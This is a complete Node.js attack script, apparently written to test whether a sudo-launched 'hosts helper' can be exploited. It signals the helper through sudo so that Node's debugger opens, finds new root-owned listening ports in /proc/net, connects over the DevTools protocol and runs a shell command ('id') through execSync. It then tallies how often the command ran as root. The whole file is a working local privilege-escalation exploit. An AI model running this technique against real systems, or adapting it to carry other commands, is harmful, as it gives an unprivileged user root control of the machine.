// The attack of a program that runs as the user: it starts the hosts helper through sudo, signals sudo, which passes the
// signal on to the helper, and looks whether the helper has opened Node's debugger. Where it has, it runs code there.
//   signal-attack.mjs TRIES LONGEST_DELAY_MS SIGNAL[,SIGNAL…] -- COMMAND…
// It prints one JSON object: what was tried, and what came of it.
import {spawn} from 'node:child_process'
import {once} from 'node:events'
import {readFileSync} from 'node:fs'
import {get} from 'node:http'
import {performance} from 'node:perf_hooks'
import {clearInterval, setInterval} from 'node:timers'
import {setTimeout as sleep} from 'node:timers/promises'
import {WebSocket} from 'ws'

const [tries, longest, signals, , ...command] = process.argv.slice(2)
const names = signals.split(',')
/** The helper is ready, or has ended, long before. */
const LIMIT_MS = 5000
/** For a debugger that starts beside the program. */
const AFTER_READY_MS = 30
const LISTENING = '0A'

const result = {tries: 0, signalled: 0, ready: 0, killed: 0, listeners: 0, announced: 0, ranAsRoot: 0}

for (let index = 0; index < Number(tries); index++) {
  const round = Math.floor(index / names.length)
  await attempt(names[index % names.length], (round * 7 + index * 0.3) % Number(longest))
  result.tries++
}
console.log(JSON.stringify(result))

async function attempt(signal, delayMs) {
  const before = new Set(listeners().map(({inode}) => inode))
  // In a session of its own: sudo does not pass on what comes from its own process group.
  const child = spawn(command[0], command.slice(1), {detached: true, stdio: 'pipe'})
  child.stdin.on('error', () => {})
  let [output, complaint] = ['', '']
  child.stdout.on('data', (data) => (output += data))
  child.stderr.on('data', (data) => (complaint += data))
  const ended = once(child, 'exit')
  let isOver = false
  void ended.then(() => (isOver = true))

  const since = performance.now()
  while (!isOver && !descendants(child.pid).some(isNode) && performance.now() - since < LIMIT_MS) await sleep(0)
  const shown = performance.now()
  while (performance.now() - shown < delayMs);
  try {
    process.kill(child.pid, signal)
    result.signalled++
  } catch (error) {
    // It has ended.
    if (error.code !== 'ESRCH') throw error
  }
  while (!isOver && !output.includes('ready') && performance.now() - since < LIMIT_MS) await sleep(1)
  if (output.includes('ready')) result.ready++
  await sleep(AFTER_READY_MS)
  const opened = listeners().filter(({inode, uid}) => uid === '0' && !before.has(inode))
  if (opened.length > 0) result.listeners++
  for (const {port} of opened) if ((await runThere(port).catch(String)).includes('uid=0(root)')) result.ranAsRoot++
  child.stdin.end()
  // One that was stopped goes on.
  const waker = setInterval(() => child.kill('SIGCONT'), 50)
  await Promise.race([ended, sleep(LIMIT_MS, undefined, {ref: false})])
  clearInterval(waker)
  child.kill('SIGKILL')
  if (child.signalCode !== null) result.killed++
  if (complaint.includes('Debugger listening')) result.announced++
}

function descendants(pid) {
  const children = text(`/proc/${pid}/task/${pid}/children`).trim()
  return children === '' ? [] : children.split(' ').flatMap((child) => [child, ...descendants(child)])
}

function isNode(pid) {
  return /^[^\0]*\bnode\0/.test(text(`/proc/${pid}/cmdline`))
}

/** Of all programs on this machine. */
function listeners() {
  return ['tcp', 'tcp6'].flatMap((table) =>
    text(`/proc/net/${table}`)
      .split('\n')
      .slice(1)
      .map((line) => line.trim().split(/\s+/))
      .filter((fields) => fields[3] === LISTENING)
      .map((fields) => ({port: parseInt(fields[1].split(':')[1], 16), uid: fields[7], inode: fields[9]})),
  )
}

/** Has the debugger there say who it is. */
async function runThere(port) {
  const [response] = await once(get({host: '127.0.0.1', port, path: '/json/list', timeout: 1000}), 'response')
  let body = ''
  for await (const data of response) body += data
  const socket = new WebSocket(JSON.parse(body)[0].webSocketDebuggerUrl)
  await once(socket, 'open')
  const expression = "process.mainModule.require('child_process').execSync('id').toString()"
  socket.send(JSON.stringify({id: 1, method: 'Runtime.evaluate', params: {expression}}))
  const [message] = await Promise.race([once(socket, 'message'), sleep(1000).then(() => ['no answer'])])
  socket.terminate()
  return String(message)
}

function text(path) {
  try {
    return readFileSync(path, 'utf8')
  } catch {
    return ''
  }
}
